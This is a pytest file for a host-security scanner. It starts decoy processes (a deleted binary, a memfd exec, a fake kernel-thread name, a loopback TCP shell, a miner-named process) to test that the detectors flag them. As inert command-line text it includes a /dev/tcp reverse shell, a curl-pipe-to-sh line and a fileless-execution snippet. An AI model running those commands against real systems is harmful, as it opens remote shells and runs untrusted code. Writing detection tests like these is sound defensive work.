"""The processes family on real processes this test starts (each bounded in time and killed in teardown).

Hits: a copied program whose file is deleted while it runs, programs run from a temp directory, `sleep`
disguised as ``[kworker/0:9]`` with ``exec -a``, ``bash -i`` whose stdio is a loopback TCP connection, command
lines of a /dev/tcp reverse shell and of ``curl … | sh`` (they only sleep), a shell started by a process
named php-fpm, a program named xmrig with ``--donate-level``, a busy loop from a copy of dash in a temp dir.
Near misses: pytest itself, a plain ``sleep`` from /usr/bin, a program replaced at its path while it runs
(an upgrade), kernel threads, ``bash -i`` on a pty, ``sleep`` with a socket as stdin, a download to a file,
``sh -c /usr/sbin/sendmail -t -i`` under php-fpm (PHP's mail()), a shell under PostgreSQL's archiver
(archive_command; the hit is one under a client's backend), the same busy loop from /usr/bin/dash.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from hostguard.checks.processes import redacted
from hostguard.findings import Finding
from hostguard.host.base import LiveHost
from tests.conftest import make_config, need_root, need_tool, run_one

# Rewrites this process's own argv in place (what setproctitle does), so /proc/PID/cmdline shows the
# argv given after the code while the process only sleeps: sh -c /usr/sbin/sendmail would exec sendmail
# (or exit when there is none) before a scan could see the shell.
RETITLE = """
import ctypes, sys, time
rest = open('/proc/self/stat').read().rsplit(')', 1)[1].split()
start, end = int(rest[45]), int(rest[46])
new = b'\\0'.join(a.encode() for a in sys.argv[1:]) + b'\\0'
ctypes.memmove(start, new.ljust(end - start, b'\\0'), end - start)
time.sleep(30)
"""
MEMFD_EXEC = """
import os, sys
fd = os.memfd_create(sys.argv[1])
with open(sys.argv[2], 'rb') as f:
    os.write(fd, f.read())
os.execv(f'/proc/self/fd/{fd}', ['worker', '30'])
"""
BUSY = "i=0; while [ $i -lt 30000000 ]; do i=$((i+1)); done"  # a few seconds of one CPU, no child processes


@dataclass
class Zoo:
    """The processes the test started, by role, and their pids."""

    tmp: Path
    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)
    pids: dict[str, int] = field(default_factory=dict)
    keep: list[socket.socket] = field(default_factory=list)
    fds: list[int] = field(default_factory=list)

    def start(self, role: str, argv: list[str], **kw: object) -> int:
        proc = subprocess.Popen(argv, start_new_session=True, **kw)  # type: ignore[call-overload]
        self.procs.append(proc)
        self.pids[role] = proc.pid
        return int(proc.pid)

    def stop(self) -> None:
        for proc in self.procs:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=10)
        for s in self.keep:
            s.close()
        for fd in self.fds:
            os.close(fd)


def wait_until(what: str, ok: object) -> None:
    deadline = time.monotonic() + 10
    while not ok():  # type: ignore[operator]
        assert time.monotonic() < deadline, f"{what} did not happen"
        time.sleep(0.02)


def cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def children(pid: int) -> list[int]:
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                out.append(int(entry))
    return out


def exe_of(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/exe")
    except OSError:
        return ""


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def shows(pid: int, text: bytes) -> bool:
    return text in cmdline(pid)


@pytest.fixture(scope="module")
def zoo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Zoo]:
    need_tool("bash", "sleep", "dash")
    z = Zoo(tmp_path_factory.mktemp("procs"))
    try:
        _populate(z)
        yield z
    finally:
        z.stop()


def _populate(z: Zoo) -> None:
    sleep = shutil.which("sleep")
    assert sleep
    # a dropped program, deleted once running
    dropped = z.tmp / "dropped" / "worker"
    dropped.parent.mkdir()
    shutil.copy(sleep, dropped)
    pid = z.start("deleted", [str(dropped), "30"])
    wait_until("the copy runs", lambda: os.readlink(f"/proc/{pid}/exe") == str(dropped))
    dropped.unlink()
    # an "upgraded" program: deleted and a new file put at its path
    upgraded = z.tmp / "upgraded" / "daemon"
    upgraded.parent.mkdir()
    shutil.copy(sleep, upgraded)
    pid = z.start("replaced", [str(upgraded), "30"])
    wait_until("the copy runs", lambda: os.readlink(f"/proc/{pid}/exe") == str(upgraded))
    upgraded.unlink()
    shutil.copy(sleep, upgraded)
    z.start("plain_sleep", [sleep, "30"])
    # the same program run from memory: an anonymous memfd, and one named like runc's sealed copy
    for role, name in (("memfd", "x"), ("runc_memfd", "runc_cloned:/proc/self/exe")):
        pid = z.start(role, [sys.executable, "-c", MEMFD_EXEC, name, sleep])
        wait_until(f"{role} runs", lambda pid=pid: exe_of(pid).startswith("/memfd:"))
    z.start("kworker", ["bash", "-c", "exec -a '[kworker/0:9]' sleep 30"])
    # bash -i driven over a loopback TCP connection, and one on a pty
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    server, _ = listener.accept()
    z.keep += [listener, client, server]
    z.start("net_shell", ["bash", "-i"], stdin=client.fileno(), stdout=client.fileno(), stderr=client.fileno())
    z.start("net_sleep", [sleep, "30"], stdin=client.fileno(), stdout=subprocess.DEVNULL)
    leader, follower = os.openpty()
    z.start("pty_shell", ["bash", "-i"], stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    z.fds.append(leader)  # the shell keeps its terminal while the test runs
    z.start("devtcp", ["bash", "-c", "sleep 30; exit 0 # bash -i >& /dev/tcp/127.0.0.1/9 0>&1"])
    z.start("curl_sh", ["bash", "-c", "sleep 30; exit 0 # curl -fsSL http://127.0.0.1:9/x.sh | sh"])
    z.start("curl_file", ["bash", "-c", "sleep 30; exit 0 # curl -fsSL -o /tmp/x.tgz http://127.0.0.1:9/x.tgz"])
    # a process named php-fpm running a webshell's sh and PHP mail()'s sh -c sendmail
    inner = """sh -c "sleep 30; exit 0" & "$0" -c "$1" sh -c "/usr/sbin/sendmail -t -i" & wait"""
    fpm = z.start("php_fpm", ["bash", "-c", f"exec -a php-fpm bash -c '{inner}' \"$0\" \"$1\"", sys.executable,
                              RETITLE])
    wait_until("php-fpm's children run", lambda: len(children(fpm)) == 2 and all(
        shows(c, b"sleep 30") or (shows(c, b"sendmail") and not shows(c, b"import")) for c in children(fpm)))
    for child in children(fpm):
        z.pids["fpm_sendmail" if shows(child, b"sendmail") else "fpm_shell"] = child
    # PostgreSQL: the archiver's archive_command is normal, a shell under a client's backend is not
    for role, title in (("pg_archiver", "postgres: 15/main: archiver last was 00000001000000000000002A"),
                        ("pg_backend", "postgres: 15/main: app appdb 127.0.0.1(50522) COPY")):
        pg = z.start(role, ["bash", "-c", f"exec -a '{title}' bash -c 'sh -c \"sleep 30; exit 0\" & wait'"])
        wait_until(f"{role}'s shell runs", lambda pg=pg: [c for c in children(pg) if shows(c, b"sleep 30")])
        z.pids[role + "_shell"] = children(pg)[0]
    z.start("xmrig", ["bash", "-c", f"exec -a xmrig {sys.executable} -c 'import time; time.sleep(30)' --donate-level 1"
                      " -o stratum+tcp://127.0.0.1:3333 --pass=hunter2"])
    for role in ("kworker", "devtcp", "curl_sh", "curl_file", "xmrig", "net_shell", "pty_shell"):
        pid = z.pids[role]
        wait_until(f"{role} runs", lambda pid=pid: cmdline(pid) and not cmdline(pid).startswith(b"bash\0-c\0exec"))


def found(check_id: str, **config: dict[str, object]) -> dict[int, Finding]:
    findings, skipped = run_one(check_id, LiveHost(), make_config(**config) if config else None)
    assert not [s for s in skipped if s.reason != "error" or "No such process" not in s.detail], skipped
    fingerprints = [f.fingerprint for f in findings]
    assert len(fingerprints) == len(set(fingerprints)), "one finding per target, never two with one fingerprint"
    return {int(p["pid"]): f for f in findings for p in f.evidence["processes"]}


def test_deleted_exe(zoo: Zoo) -> None:
    hits = found("processes.deleted_exe")
    f = hits[zoo.pids["deleted"]]
    assert f.target["exe"] == str(zoo.tmp / "dropped" / "worker")
    assert f.evidence["deleted"] is True
    [step] = f.remediation.steps
    assert step.kind == "action" and step.action == "kill"  # type: ignore[union-attr]
    assert dict(step.args)["pid"] == str(zoo.pids["deleted"])  # type: ignore[union-attr]
    assert dict(step.args)["exe"] == f.target["exe"]  # type: ignore[union-attr]
    memfd = hits[zoo.pids["memfd"]]
    assert memfd.evidence["memfd"] is True and memfd.target["exe"] == "/memfd:x"
    assert memfd.severity == "critical"
    for quiet in ("replaced", "plain_sleep", "runc_memfd"):
        assert zoo.pids[quiet] not in hits, hits[zoo.pids[quiet]].title
    assert os.getpid() not in hits


def test_exe_location(zoo: Zoo) -> None:
    hits = found("processes.exe_location")
    assert str(zoo.tmp).startswith("/tmp/"), "the test's temp dir must be under /tmp for this hit"
    assert hits[zoo.pids["deleted"]].evidence["location"] == "/tmp"
    assert hits[zoo.pids["replaced"]].target["exe"] == str(zoo.tmp / "upgraded" / "daemon")
    for quiet in ("plain_sleep", "kworker", "net_shell"):
        assert zoo.pids[quiet] not in hits
    assert os.getpid() not in hits


def test_fake_kernel_thread(zoo: Zoo) -> None:
    hits = found("processes.fake_kernel_thread")
    f = hits[zoo.pids["kworker"]]
    assert f.evidence["shown_as"] == "[kworker/0:9]" and f.evidence["user_memory"] is True
    assert f.target["exe"] == shutil.which("sleep") or f.target["exe"].endswith("/sleep")
    assert 2 not in hits  # kthreadd: a real kernel thread
    assert all(h.evidence["exe"] for h in hits.values())  # never a process without an executable


def test_reverse_shell(zoo: Zoo) -> None:
    hits = found("processes.reverse_shell")
    net = hits[zoo.pids["net_shell"]]
    assert "stdin and stdout" in net.evidence["reason"]
    assert hits[zoo.pids["devtcp"]].evidence["reason"] == "its command line opens a shell over the network"
    for quiet in ("pty_shell", "net_sleep", "plain_sleep", "curl_sh"):
        assert zoo.pids[quiet] not in hits, quiet
    assert os.getpid() not in hits


def test_shell_under_service(zoo: Zoo) -> None:
    hits = found("processes.shell_under_service")
    f = hits[zoo.pids["fpm_shell"]]
    assert f.evidence["service"]["pid"] == zoo.pids["php_fpm"]
    assert f.evidence["parents"][0]["pid"] == zoo.pids["php_fpm"]
    sendmail = zoo.pids["fpm_sendmail"]  # PHP's mail(): sh -c /usr/sbin/sendmail -t -i, quiet
    assert cmdline(sendmail).split(b"\0")[:3] == [b"sh", b"-c", b"/usr/sbin/sendmail -t -i"]
    assert sendmail not in hits
    assert hits[zoo.pids["pg_backend_shell"]].evidence["service"]["pid"] == zoo.pids["pg_backend"]
    for quiet in ("pg_archiver_shell", "devtcp", "curl_sh", "net_shell", "pty_shell"):  # pytest started the last 4
        assert zoo.pids[quiet] not in hits, quiet


def test_download_exec(zoo: Zoo) -> None:
    hits = found("processes.download_exec")
    assert "curl -fsSL http://127.0.0.1:9/x.sh | sh" in " ".join(hits[zoo.pids["curl_sh"]].evidence["cmdline"])
    for quiet in ("curl_file", "devtcp", "plain_sleep"):
        assert zoo.pids[quiet] not in hits, quiet
    assert os.getpid() not in hits


def test_miner_by_name_and_arguments(zoo: Zoo) -> None:
    hits = found("processes.miner")
    f = hits[zoo.pids["xmrig"]]
    assert "a miner's name" in f.evidence["reasons"]
    assert "a miner's argument (--donate-level)" in f.evidence["reasons"]
    assert "--pass=***" in f.evidence["cmdline"] and "hunter2" not in str(f.to_dict())
    for quiet in ("plain_sleep", "deleted", "net_shell"):
        assert zoo.pids[quiet] not in hits, quiet
    assert os.getpid() not in hits


def test_miner_by_sustained_cpu(tmp_path: Path) -> None:
    """A busy loop from a copy of dash in a temp dir is a renamed miner; the same loop from /usr/bin is not."""
    need_tool("dash")
    dash = os.path.realpath(shutil.which("dash") or "")
    copy = tmp_path / "kthreadd"
    shutil.copy(dash, copy)
    z = Zoo(tmp_path)
    started = time.monotonic()
    try:
        busy = z.start("copy", [str(copy), "-c", BUSY])
        z.start("system", [dash, "-c", BUSY])
        wait_until("the loop burns CPU", lambda: cpu_seconds(busy) >= 0.5)  # however loaded the machine is
        time.sleep(max(0.0, 1.0 - (time.monotonic() - started)))
        hits = found("processes.miner", processes={"cpu_min_age_seconds": 1, "cpu_share": 0.05})
    finally:
        z.stop()
    f = hits[z.pids["copy"]]
    assert any("of a CPU" in r for r in f.evidence["reasons"]) and f.evidence["cpu_share"] >= 0.05
    assert z.pids["system"] not in hits


@pytest.mark.parametrize("argv, expected", [
    (["mysql", "--password=s3cret", "-h", "db"], ["mysql", "--password=***", "-h", "db"]),
    (["tool", "--token", "abc", "x"], ["tool", "--token", "***", "x"]),
    (["curl", "https://user:pw@example.test/x"], ["curl", "https://user:***@example.test/x"]),
    (["redis-server *:6379", "", ""], ["redis-server *:6379"]),
    (["a" * 500], ["a" * 200 + "…"]),
])
def test_evidence_masks_secrets(argv: list[str], expected: list[str]) -> None:
    assert redacted(tuple(argv)) == expected


def test_hidden_directory(tmp_path: Path) -> None:
    """A program in a hidden directory outside the temp dirs is reported (medium); one in a developer tool's
    hidden place (~/.local/bin) is not. The directories are on a tmpfs in a private mount namespace."""
    need_root("a private mount namespace")
    need_tool("unshare", "mount")
    sleep = os.path.realpath(shutil.which("sleep") or "")
    script = (f"set -e; mount -t tmpfs none /mnt; mkdir -p /mnt/srv/.cache /mnt/home/u/.local/bin; "
              f"cp {sleep} /mnt/srv/.cache/updater; cp {sleep} /mnt/home/u/.local/bin/tool; "
              "/mnt/srv/.cache/updater 30 & /mnt/home/u/.local/bin/tool 30 & wait")
    z = Zoo(tmp_path)
    try:
        ns = z.start("ns", ["unshare", "--mount", "--propagation", "private", "sh", "-c", script])
        wait_until("both programs run", lambda: len(children(ns)) == 2 and all(
            exe_of(c).startswith("/mnt/") for c in children(ns)))
        pids = {os.readlink(f"/proc/{c}/exe"): c for c in children(ns)}
        hits = found("processes.exe_location")
    finally:
        z.stop()
    f = hits[pids["/mnt/srv/.cache/updater"]]
    assert f.evidence["location"] == "hidden directory .cache" and f.severity == "medium"
    assert pids["/mnt/home/u/.local/bin/tool"] not in hits


def test_processes_of_one_program_make_one_finding(tmp_path: Path) -> None:
    """Three processes of one deleted binary are one problem: one finding (one fingerprint) listing the three,
    oldest first, with an audited kill of each; with a cap of two, two are listed and killed, three counted."""
    sleep = shutil.which("sleep")
    assert sleep
    dropped = tmp_path / "drop" / "worker"
    dropped.parent.mkdir()
    shutil.copy(sleep, dropped)
    z = Zoo(tmp_path)
    try:
        pids = [z.start(f"w{i}", [str(dropped), "30"]) for i in range(3)]
        wait_until("the copies run", lambda: all(exe_of(p) == str(dropped) for p in pids))
        dropped.unlink()
        [f] = [f for f in run_one("processes.deleted_exe", LiveHost())[0] if f.target["exe"] == str(dropped)]
        [capped] = [f for f in run_one("processes.deleted_exe", LiveHost(),
                                       make_config(processes={"processes_per_finding": 2}))[0]
                    if f.target["exe"] == str(dropped)]
    finally:
        z.stop()
    listed = [p["pid"] for p in f.evidence["processes"]]
    assert sorted(listed) == sorted(pids) and f.evidence["process_count"] == 3
    starts = [p["start_time"] for p in f.evidence["processes"]]
    assert starts == sorted(starts) and f.evidence["pid"] == listed[0]
    assert all(p["deleted"] is True and p["user"] == f.target["user"] for p in f.evidence["processes"])
    assert [int(dict(s.args)["pid"]) for s in f.remediation.steps] == listed  # type: ignore[union-attr]
    assert f.title.endswith("and 2 more processes like it")
    assert [p["pid"] for p in capped.evidence["processes"]] == listed[:2] and capped.evidence["process_count"] == 3
    assert len(capped.remediation.steps) == 2 and "1 more processes" in (capped.remediation.manual or "")
    assert capped.fingerprint == f.fingerprint


def test_fix_kill_stops_every_process_of_the_finding(tmp_path: Path) -> None:
    """The grouped finding's kill steps, carried out by `hostguard fix --kill` (the tool that reads them):
    all three processes of the deleted program end, each through its own audited kill."""
    import io
    import json
    from contextlib import redirect_stdout

    from hostguard.cli import main
    from hostguard.store.state import StateStore
    from tests.conftest import FIXTURES

    sleep = shutil.which("sleep")
    assert sleep
    dropped = tmp_path / "drop" / "hg-group"
    dropped.parent.mkdir()
    shutil.copy(sleep, dropped)
    state = tmp_path / "state"
    z = Zoo(tmp_path)

    def hg(*args: str) -> tuple[int, str]:
        out = io.StringIO()
        with redirect_stdout(out):
            rc = main(["--config", str(FIXTURES / "fast.toml"), "--state", str(state), *args])
        return rc, out.getvalue()

    try:
        pids = [z.start(f"w{i}", [str(dropped), "30"]) for i in range(3)]
        wait_until("the copies run", lambda: all(exe_of(p) == str(dropped) for p in pids))
        dropped.unlink()
        rc, out = hg("scan", "--only", "processes.deleted_exe", "--format", "json")
        [fp] = [f["fingerprint"] for f in json.loads(out)["findings"] if f["target"]["exe"] == str(dropped)]
        rc, out = hg("fix", "--kill", "--yes", "--only", "processes", fp)
        assert rc == 0, out
        assert sorted(-z.procs[i].wait(timeout=10) for i in range(3)) == [signal.SIGTERM] * 3
    finally:
        z.stop()
    store = StateStore(str(state))
    try:
        killed = sorted(int(e.subject) for e in store.audit_log() if e.action == "kill")
    finally:
        store.close()
    assert killed == sorted(pids)
